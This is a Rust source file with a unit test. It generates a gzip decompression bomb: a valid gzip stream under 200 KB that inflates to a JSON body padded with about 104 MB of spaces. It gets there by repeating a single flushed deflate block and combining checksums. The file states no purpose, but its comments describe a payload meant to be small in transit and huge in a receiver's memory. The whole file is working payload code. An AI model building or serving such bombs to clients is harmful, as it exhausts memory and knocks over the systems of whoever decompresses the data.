//! A gzip text that is small on the wire and huge in memory, made without ever being huge here.

use flate2::{Compress, Compression, Crc, FlushCompress};

const BLANKS: usize = 1 << 20;
/// With a MB each.
const BLOCKS: usize = 104;
/// Deflate, no name, no date, made anywhere.
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
/// The empty block that says: this was the last.
const LAST_BLOCK: [u8; 2] = [3, 0];

/// `body` and 104 MB of blanks before its last byte.
pub fn bomb(body: &[u8]) -> Vec<u8> {
    let (last, start) = body.split_last().unwrap_or((&b'}', b"{"));
    let blanks = vec![b' '; BLANKS];
    let (start_block, blank_block, end_block) = (deflated(start), deflated(&blanks), deflated(&[*last]));
    let mut sum = Crc::new();
    sum.update(start);
    let mut of_blanks = Crc::new();
    of_blanks.update(&blanks);
    let mut bomb = [HEADER.as_slice(), &start_block].concat();
    for _ in 0..BLOCKS {
        // Every block stands for itself, so one can be repeated.
        bomb.extend_from_slice(&blank_block);
        sum.combine(&of_blanks);
    }
    sum.update(&[*last]);
    bomb.extend_from_slice(&end_block);
    bomb.extend_from_slice(&LAST_BLOCK);
    bomb.extend_from_slice(&sum.sum().to_le_bytes());
    bomb.extend_from_slice(&sum.amount().to_le_bytes());
    bomb
}

/// Whole bytes that refer to nothing before them and are not the end.
fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut compress = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(bytes.len() + 64);
    // It cannot fail with room enough for everything.
    let _ = compress.compress_vec(bytes, &mut out, FlushCompress::Full);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn it_is_sound_small_and_huge() {
        let bomb = bomb(br#"{"status":true}"#);
        assert!(bomb.len() < 200_000, "{}", bomb.len());
        let mut text = Vec::new();
        flate2::read::GzDecoder::new(bomb.as_slice()).read_to_end(&mut text).unwrap();
        assert_eq!(text.len(), 15 + BLOCKS * BLANKS);
        assert!(text.starts_with(br#"{"status":true  "#) && text.ends_with(b"  }"));
    }
}
